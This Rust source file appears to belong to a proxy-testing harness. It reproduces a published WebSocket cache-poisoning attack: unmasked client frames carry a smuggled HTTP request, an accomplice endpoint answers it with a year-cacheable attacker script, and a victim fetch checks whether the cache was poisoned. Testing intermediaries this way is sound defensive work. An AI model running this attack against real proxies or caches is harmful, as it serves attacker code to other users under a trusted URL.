//! The cache-poisoning demonstration (workload `smuggle`), after Huang, Chen, Barth, Rescorla
//! and Jackson, "Talking to Yourself for Fun and Profit" (W2SP 2011), the reason RFC 6455
//! masks client frames (§5.3, §10.3).
//!
//! The attacker controls a script in the client and a server. The script opens a WebSocket to
//! the attacker's server (`/attacker`) and sends one text frame whose payload is the request
//! [`smuggled_request`]: `GET /script.js HTTP/1.1` with `Host: victim`. The attacker's server
//! answers that request, raw, with [`attacker_response`]. An intermediary that is not
//! upgrade-aware and reads the bytes after the 101 as HTTP sees a request for
//! `http://victim/script.js` and its response, and a cache stores the attacker's script under
//! the victim's URL. Then a victim behind the same intermediary fetches
//! `http://victim/script.js`: a new connection, over the same route as the WebSocket (the same
//! first hop, so the same cache), asking for `/script.js` with `Host: victim`. The reference
//! server plays the victim's origin too: it answers that request with [`ORIGIN_BODY`].
//!
//! The client decides the outcome from the victim's fetch alone: the origin's script is
//! `delivered`; the attacker's is `corrupted` with a detail that starts `cache poisoned:`.
//!
//! `[client] mask = false` makes the client send its frames unmasked, a deliberate violation of
//! RFC 6455 §5.3 that no browser commits, for demonstration only. The attacker's server
//! accepts unmasked frames (RFC 6455 §5.1 tells servers to close on them; this one is the
//! attacker's accomplice) and unmasks masked ones, so it answers the smuggled request either
//! way: only what the intermediary sees differs.
//!
//! Frames here are written and read by hand, since tungstenite always masks client frames and
//! would reject the raw HTTP answer the attacker's server sends.

use std::time::Duration;

use gauntlet_proxies::http::{self, Head, Parsed};
use gauntlet_proxies::rng::Rng;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use crate::endpoints::connect::{
    AsyncIo, Fail, Phase, Plan, Report, fail, invalid_101, ms, transport,
};
use crate::engine::NetRef;
use crate::verdict::outcome::Outcome;
use crate::verdict::transcript::Transcript;

/// The attacker's WebSocket endpoint on the reference server.
pub const ATTACKER_PATH: &str = "/attacker";
/// The victim's host name, as the smuggled request and the victim's fetch send it.
pub const VICTIM_HOST: &str = "victim";
/// The victim's script.
pub const VICTIM_PATH: &str = "/script.js";
/// What the victim's origin serves at [`VICTIM_PATH`].
pub const ORIGIN_BODY: &str = "console.log('the genuine script of http://victim');\n";
/// What the attacker's server answers the smuggled request with.
pub const ATTACKER_BODY: &str = "alert('served by the attacker');\n";
/// How long the origin lets caches keep its script.
pub const ORIGIN_CACHE_CONTROL: &str = "max-age=3600";

/// The largest frame payload read by hand.
const MAX_FRAME_PAYLOAD: u64 = 1 << 20;
/// The longest response head read by hand.
const MAX_HEAD: usize = 8192;
/// The client's name in transcripts.
const WHO: &str = "client";

pub use gauntlet_proxies::ws_frames::{encode, opcode};

/// The request the attacker smuggles in a frame's payload.
pub fn smuggled_request() -> String {
    format!("GET {VICTIM_PATH} HTTP/1.1\r\nHost: {VICTIM_HOST}\r\n\r\n")
}

/// The attacker server's raw answer: a 200 any cache would keep for a year.
pub fn attacker_response() -> Vec<u8> {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/javascript\r\nContent-Length: {}\r\nCache-Control: public, max-age=31536000\r\n\r\n{ATTACKER_BODY}",
        ATTACKER_BODY.len()
    )
    .into_bytes()
}

/// A frame read by hand, its payload unmasked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    /// The opcode.
    pub opcode: u8,
    /// Whether it came masked.
    pub masked: bool,
    /// The payload, unmasked.
    pub payload: Vec<u8>,
}

/// What reading a frame at the start of a buffer found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decoded {
    /// A frame of this many bytes.
    Frame(Frame, usize),
    /// More bytes are needed.
    Partial,
    /// Not a WebSocket frame; the reason says why.
    Invalid(String),
}

/// Reads one frame at the start of `buf`.
pub fn decode(buf: &[u8]) -> Decoded {
    let (Some(&b0), Some(&b1)) = (buf.first(), buf.get(1)) else {
        return Decoded::Partial;
    };
    if b0 & 0x70 != 0 {
        return Decoded::Invalid(format!("reserved bits set in 0x{b0:02x}"));
    }
    let opcode = b0 & 0x0f;
    if ![0x0, 0x1, 0x2, 0x8, 0x9, 0xa].contains(&opcode) {
        return Decoded::Invalid(format!("unknown opcode 0x{opcode:x}"));
    }
    let masked = b1 & 0x80 != 0;
    let (len, mut at) = match b1 & 0x7f {
        126 => match buf.get(2..4) {
            Some(b) => (u64::from(u16::from_be_bytes([b[0], b[1]])), 4),
            None => return Decoded::Partial,
        },
        127 => match buf.get(2..10).and_then(|b| <[u8; 8]>::try_from(b).ok()) {
            Some(b) => (u64::from_be_bytes(b), 10),
            None => return Decoded::Partial,
        },
        n => (u64::from(n), 2),
    };
    if len > MAX_FRAME_PAYLOAD {
        return Decoded::Invalid(format!("a {len}-byte payload"));
    }
    let mask = if masked {
        let Some(m) = buf
            .get(at..at + 4)
            .and_then(|m| <[u8; 4]>::try_from(m).ok())
        else {
            return Decoded::Partial;
        };
        at += 4;
        Some(m)
    } else {
        None
    };
    let end = at + len as usize;
    let Some(payload) = buf.get(at..end) else {
        return Decoded::Partial;
    };
    let payload = match mask {
        Some(m) => payload
            .iter()
            .enumerate()
            .map(|(i, b)| b ^ m[i % 4])
            .collect(),
        None => payload.to_vec(),
    };
    Decoded::Frame(
        Frame {
            opcode,
            masked,
            payload,
        },
        end,
    )
}

/// The first line of `bytes`, printable ASCII only, at most 60 characters.
fn printable(bytes: &[u8]) -> String {
    crate::endpoints::connect::printable_up_to(bytes, 60)
}

/// A stream read by hand, with the bytes read but not yet used.
struct Raw {
    io: Box<dyn AsyncIo>,
    buf: Vec<u8>,
}

/// How reading an HTTP response by hand ended.
enum Answer {
    /// A complete response.
    Response(Head, Vec<u8>),
    /// Bytes that are not an HTTP response.
    NotHttp(Vec<u8>),
    /// The stream ended (how, as text) before a complete response.
    Ended(String),
    /// The deadline passed first.
    Timeout,
}

impl Raw {
    /// Reads more bytes into the buffer: how many (0 at the end of the stream).
    async fn fill(&mut self) -> std::io::Result<usize> {
        let mut chunk = [0u8; 4096];
        let n = self.io.read(&mut chunk).await?;
        self.buf.extend_from_slice(&chunk[..n]);
        Ok(n)
    }

    /// Reads a response head and its `Content-Length` body (or, without one, the body up to
    /// the end of the stream) before `deadline`.
    async fn response(&mut self, net: &NetRef, deadline: Duration) -> Answer {
        let read = async {
            let (head, len) = loop {
                match http::parse_response(&self.buf, MAX_HEAD) {
                    Parsed::Complete(head, len) => break (head, len),
                    Parsed::Invalid(_) => return Answer::NotHttp(std::mem::take(&mut self.buf)),
                    Parsed::Partial => match self.fill().await {
                        Ok(0) => return Answer::Ended("the connection closed".into()),
                        Ok(_) => {}
                        Err(e) => return Answer::Ended(format!("the connection failed ({e})")),
                    },
                }
            };
            self.buf.drain(..len);
            let length = match head.framing(Some("GET")) {
                Ok(http::Framing::Length(n)) => Some(n as usize),
                Ok(http::Framing::None) => Some(0),
                _ => None,
            };
            loop {
                if length.is_some_and(|n| self.buf.len() >= n) {
                    break;
                }
                match self.fill().await {
                    Ok(0) if length.is_none() => break,
                    Ok(0) => return Answer::Ended("the connection closed mid-body".into()),
                    Ok(_) => {}
                    Err(e) => {
                        return Answer::Ended(format!("the connection failed mid-body ({e})"));
                    }
                }
            }
            let take = length.unwrap_or(self.buf.len()).min(self.buf.len());
            let body: Vec<u8> = self.buf.drain(..take).collect();
            Answer::Response(head, body)
        };
        tokio::select! {
            biased;
            a = read => a,
            () = net.sleep_until(deadline) => Answer::Timeout,
        }
    }
}

fn status_line(head: &Head) -> String {
    match &head.start {
        http::StartLine::Response { status, reason, .. } => format!("{status} {reason}"),
        http::StartLine::Request { method, target, .. } => format!("{method} {target}"),
    }
}

/// Runs the `smuggle` workload: the attack, then the victim's fetch, whose answer decides the
/// outcome. `start` is when the client started.
pub(crate) async fn run(
    net: &NetRef,
    plan: &Plan,
    t: &Transcript,
    report: &mut Report,
    start: Duration,
) -> Result<String, Fail> {
    let phase = Phase::new(net.now());
    let opened = tokio::select! {
        biased;
        r = async {
            let io = transport(net, plan, t, &phase).await?;
            upgrade(net, plan, t, io, &phase).await
        } => r,
        () = net.sleep_until(start.saturating_add(plan.handshake_timeout)) => Err(fail(
            Outcome::HandshakeTimeout,
            format!("no 101 within {} (stuck in {}) at {}", ms(plan.handshake_timeout), phase.get(), ms(net.now())),
        )),
    };
    let raw = opened?;
    report.handshake = Some(net.now() - start);
    attack(net, plan, t, report, raw).await;
    victim_fetch(net, plan, t, report).await
}

/// The upgrade to [`ATTACKER_PATH`], written and checked by hand.
async fn upgrade(
    net: &NetRef,
    plan: &Plan,
    t: &Transcript,
    mut io: Box<dyn AsyncIo>,
    phase: &Phase,
) -> Result<Raw, Fail> {
    phase.set("upgrade", net.now());
    let mut key = [0u8; 16];
    Rng::derive(plan.seed, 0x6b6579).fill(&mut key);
    let key = http::base64(&key);
    let request = format!(
        "GET {ATTACKER_PATH} HTTP/1.1\r\nHost: {}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n",
        plan.host
    );
    t.log(
        net.now(),
        WHO,
        format!("upgrade request GET {ATTACKER_PATH}"),
    );
    let rejected = |what: String| fail(Outcome::HandshakeRejected, what);
    if let Err(e) = io.write_all(request.as_bytes()).await {
        return Err(rejected(format!(
            "no HTTP response: the request could not be sent ({e}) at {}",
            ms(net.now())
        )));
    }
    let mut raw = Raw {
        io,
        buf: Vec::new(),
    };
    let (head, len) = loop {
        match http::parse_response(&raw.buf, MAX_HEAD) {
            Parsed::Complete(head, len) => break (head, len),
            Parsed::Invalid(reason) => {
                return Err(rejected(format!(
                    "no HTTP response: {reason} at {}: `{}`",
                    ms(net.now()),
                    printable(&raw.buf)
                )));
            }
            Parsed::Partial => match raw.fill().await {
                Ok(0) => {
                    return Err(rejected(format!(
                        "no HTTP response: connection closed at {}",
                        ms(net.now())
                    )));
                }
                Ok(_) => {}
                Err(e) => {
                    return Err(rejected(format!(
                        "no HTTP response: {e} at {}",
                        ms(net.now())
                    )));
                }
            },
        }
    };
    raw.buf.drain(..len);
    let status = head.status().unwrap_or_default();
    if status != 101 {
        t.log(
            net.now(),
            WHO,
            format!("upgrade answered {}", status_line(&head)),
        );
        return Err(rejected(format!(
            "HTTP {} at {}",
            status_line(&head),
            ms(net.now())
        )));
    }
    if let Some(what) = invalid_101(&head, &key) {
        return Err(fail(
            Outcome::HandshakeInvalid,
            format!("101 not valid: {what} at {}", ms(net.now())),
        ));
    }
    t.log(net.now(), WHO, status_line(&head));
    Ok(raw)
}

/// Sends the smuggling frame, reads the answer, closes. What happens here is logged, never an
/// outcome: the victim's fetch decides.
async fn attack(net: &NetRef, plan: &Plan, t: &Transcript, report: &mut Report, mut raw: Raw) {
    let mut rng = Rng::derive(plan.seed, 0x6d61_736b);
    let mut mask = || {
        plan.mask.then(|| {
            let mut m = [0u8; 4];
            rng.fill(&mut m);
            m
        })
    };
    let payload = smuggled_request();
    let frame = encode(opcode::TEXT, payload.as_bytes(), mask());
    if let Err(e) = raw.io.write_all(&frame).await {
        t.log(
            net.now(),
            WHO,
            format!("the smuggling frame could not be sent ({e})"),
        );
        return;
    }
    report.sent = 1;
    t.log(
        net.now(),
        WHO,
        format!(
            "sent {} text frame, {}-byte payload `{}`{}",
            if plan.mask { "a masked" } else { "an unmasked" },
            payload.len(),
            printable(payload.as_bytes()),
            if plan.mask {
                ""
            } else {
                " (a deliberate RFC 6455 §5.3 violation)"
            }
        ),
    );
    let reply = plan.workload.reply_timeout;
    match raw.response(net, net.now().saturating_add(reply)).await {
        Answer::Response(head, body) => t.log(
            net.now(),
            WHO,
            format!(
                "answered on the WebSocket connection with HTTP {}, {}-byte body `{}`",
                status_line(&head),
                body.len(),
                printable(&body)
            ),
        ),
        Answer::NotHttp(bytes) => t.log(
            net.now(),
            WHO,
            format!(
                "answered with {} bytes that are not HTTP (frames, say)",
                bytes.len()
            ),
        ),
        Answer::Ended(how) => {
            t.log(net.now(), WHO, format!("no answer: {how}"));
            return;
        }
        Answer::Timeout => t.log(net.now(), WHO, format!("no answer within {}", ms(reply))),
    }
    let close = encode(opcode::CLOSE, &1000u16.to_be_bytes(), mask());
    if let Err(e) = raw.io.write_all(&close).await {
        t.log(net.now(), WHO, format!("close could not be sent ({e})"));
        return;
    }
    t.log(net.now(), WHO, "close 1000 sent");
    let deadline = net.now().saturating_add(reply);
    let ended = async {
        loop {
            while let Decoded::Frame(frame, len) = decode(&raw.buf) {
                raw.buf.drain(..len);
                if frame.opcode == opcode::CLOSE {
                    let code = frame
                        .payload
                        .get(..2)
                        .map_or(1005, |c| u16::from_be_bytes([c[0], c[1]]));
                    t.log(net.now(), WHO, format!("close {code} received"));
                }
            }
            match raw.fill().await {
                Ok(0) => return "the connection closed".to_string(),
                Ok(_) => {}
                Err(e) => return format!("the connection failed ({e})"),
            }
        }
    };
    let how = tokio::select! {
        biased;
        how = ended => how,
        () = net.sleep_until(deadline) => format!("the connection was still open after {}", ms(reply)),
    };
    let _ = raw.io.shutdown().await;
    t.log(net.now(), WHO, format!("attack over: {how}"));
}

/// The victim's fetch of `http://victim/script.js`, over the same route as the WebSocket.
async fn victim_fetch(
    net: &NetRef,
    plan: &Plan,
    t: &Transcript,
    report: &mut Report,
) -> Result<String, Fail> {
    let url = format!("http://{VICTIM_HOST}{VICTIM_PATH}");
    t.log(
        net.now(),
        WHO,
        format!("victim fetch of {url}, on a new connection"),
    );
    let start = net.now();
    let phase = Phase::new(net.now());
    let connected = tokio::select! {
        biased;
        r = transport(net, plan, t, &phase) => r,
        () = net.sleep_until(start.saturating_add(plan.handshake_timeout)) => Err(fail(
            Outcome::HandshakeTimeout,
            format!("victim fetch: no connection within {} (stuck in {}) at {}", ms(plan.handshake_timeout), phase.get(), ms(net.now())),
        )),
    };
    let mut raw = Raw {
        io: connected?,
        buf: Vec::new(),
    };
    let request =
        format!("GET {VICTIM_PATH} HTTP/1.1\r\nHost: {VICTIM_HOST}\r\nConnection: close\r\n\r\n");
    let sent_at = net.now();
    if let Err(e) = raw.io.write_all(request.as_bytes()).await {
        return Err(fail(
            Outcome::Dropped,
            format!(
                "victim fetch of {url} could not be sent ({e}) at {}",
                ms(net.now())
            ),
        ));
    }
    let reply = plan.workload.reply_timeout;
    let answer = raw.response(net, sent_at.saturating_add(reply)).await;
    let _ = raw.io.shutdown().await;
    let (head, body) = match answer {
        Answer::Response(head, body) => (head, body),
        Answer::NotHttp(bytes) => {
            return Err(fail(
                Outcome::Corrupted,
                format!(
                    "victim fetch of {url} answered with bytes that are not HTTP at {}: `{}`",
                    ms(net.now()),
                    printable(&bytes)
                ),
            ));
        }
        Answer::Ended(how) => {
            return Err(fail(
                Outcome::Dropped,
                format!(
                    "victim fetch of {url} unanswered: {how} at {}",
                    ms(net.now())
                ),
            ));
        }
        Answer::Timeout => {
            return Err(fail(
                Outcome::Stalled,
                format!(
                    "victim fetch of {url} unanswered within {} (sent at {})",
                    ms(reply),
                    ms(sent_at)
                ),
            ));
        }
    };
    let rtt = net.now() - sent_at;
    report.latencies.push(rtt);
    let cache = head
        .get("x-cache")
        .map(|v| format!(", X-Cache: {}", String::from_utf8_lossy(v)))
        .unwrap_or_default();
    t.log(
        net.now(),
        WHO,
        format!(
            "victim fetch answered {}{cache}, {}-byte body `{}`",
            status_line(&head),
            body.len(),
            printable(&body)
        ),
    );
    let status = head.status().unwrap_or_default();
    if status == 200 && body == ORIGIN_BODY.as_bytes() {
        report.received = 1;
        Ok(format!(
            "cache clean: GET {url} answered with the origin's script ({} bytes{cache}), round trip {}",
            body.len(),
            ms(rtt)
        ))
    } else if body == ATTACKER_BODY.as_bytes() {
        Err(fail(
            Outcome::Corrupted,
            format!(
                "cache poisoned: GET {url} answered with the attacker's body `{}` ({status}{cache}) at {}",
                printable(&body),
                ms(net.now())
            ),
        ))
    } else {
        Err(fail(
            Outcome::Corrupted,
            format!(
                "victim fetch of {url} answered {} with a {}-byte body that is not the origin's script{cache}, at {}",
                status_line(&head),
                body.len(),
                ms(net.now())
            ),
        ))
    }
}

/// The attacker's endpoint on the reference server, after the 101: reads frames by hand
/// (masked or not), answers any text or binary frame whose payload is an HTTP request with
/// [`attacker_response`], raw, and answers a Close with a Close.
pub async fn attacker_endpoint<S>(net: NetRef, mut io: S, t: Transcript)
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let who = net.host().to_string();
    let log = |what: String| t.log(net.now(), &who, format!("attacker endpoint: {what}"));
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        loop {
            match decode(&buf) {
                Decoded::Partial => break,
                Decoded::Invalid(reason) => {
                    log(format!(
                        "{} bytes that are not a WebSocket frame ({reason}): closing",
                        buf.len()
                    ));
                    let _ = io.shutdown().await;
                    return;
                }
                Decoded::Frame(frame, len) => {
                    buf.drain(..len);
                    let masked = if frame.masked { "masked" } else { "unmasked" };
                    match frame.opcode {
                        opcode::TEXT | opcode::BINARY => {
                            match http::parse_request(&frame.payload, MAX_HEAD) {
                                Parsed::Complete(head, _) => {
                                    let host = head
                                        .get("host")
                                        .map(|h| format!(", Host: {}", String::from_utf8_lossy(h)))
                                        .unwrap_or_default();
                                    log(format!(
                                        "{masked} frame carries the request `{}`{host}: answering it raw with the attacker's script",
                                        printable(&frame.payload)
                                    ));
                                    if let Err(e) = io.write_all(&attacker_response()).await {
                                        log(format!("answer failed: {e}"));
                                        return;
                                    }
                                }
                                _ => log(format!(
                                    "ignored a {masked} {}-byte frame that carries no request",
                                    frame.payload.len()
                                )),
                            }
                        }
                        opcode::CLOSE => {
                            let code: Vec<u8> = frame.payload.iter().take(2).copied().collect();
                            log(format!("{masked} close received, replying"));
                            let _ = io.write_all(&encode(opcode::CLOSE, &code, None)).await;
                            let _ = io.shutdown().await;
                            log("closed".to_string());
                            return;
                        }
                        _ => {}
                    }
                }
            }
        }
        match io.read(&mut chunk).await {
            Ok(0) => {
                log("the client closed the connection".to_string());
                let _ = io.shutdown().await;
                return;
            }
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) => {
                log(format!("read failed: {e}"));
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_round_trip_masked_or_not_at_every_length_form() {
        for len in [0, 5, 125, 126, 65_535, 65_536] {
            let payload: Vec<u8> = (0..len).map(|i| (i % 251) as u8).collect();
            for mask in [None, Some([1, 2, 3, 4])] {
                let bytes = encode(opcode::BINARY, &payload, mask);
                assert_eq!(
                    decode(&bytes),
                    Decoded::Frame(
                        Frame {
                            opcode: opcode::BINARY,
                            masked: mask.is_some(),
                            payload: payload.clone()
                        },
                        bytes.len()
                    )
                );
                assert_eq!(decode(&bytes[..bytes.len() - 1]), Decoded::Partial);
            }
        }
        assert!(matches!(decode(b"HTTP/1.1 200 OK"), Decoded::Invalid(_)));
    }

    #[test]
    fn an_unmasked_smuggling_frame_spells_the_request_after_its_header_and_a_masked_one_does_not() {
        let request = smuggled_request();
        let plain = encode(opcode::TEXT, request.as_bytes(), None);
        assert_eq!(&plain[2..], request.as_bytes());
        let masked = encode(
            opcode::TEXT,
            request.as_bytes(),
            Some([0x12, 0x34, 0x56, 0x78]),
        );
        assert!(!masked.windows(4).any(|w| w == b"GET "));
    }

    #[test]
    fn the_attacker_response_is_a_complete_cacheable_200() {
        let bytes = attacker_response();
        let Parsed::Complete(head, len) = http::parse_response(&bytes, MAX_HEAD) else {
            panic!("not a response")
        };
        assert_eq!(head.status(), Some(200));
        assert_eq!(&bytes[len..], ATTACKER_BODY.as_bytes());
        assert_eq!(
            head.framing(Some("GET")),
            Ok(http::Framing::Length(ATTACKER_BODY.len() as u64))
        );
    }
}
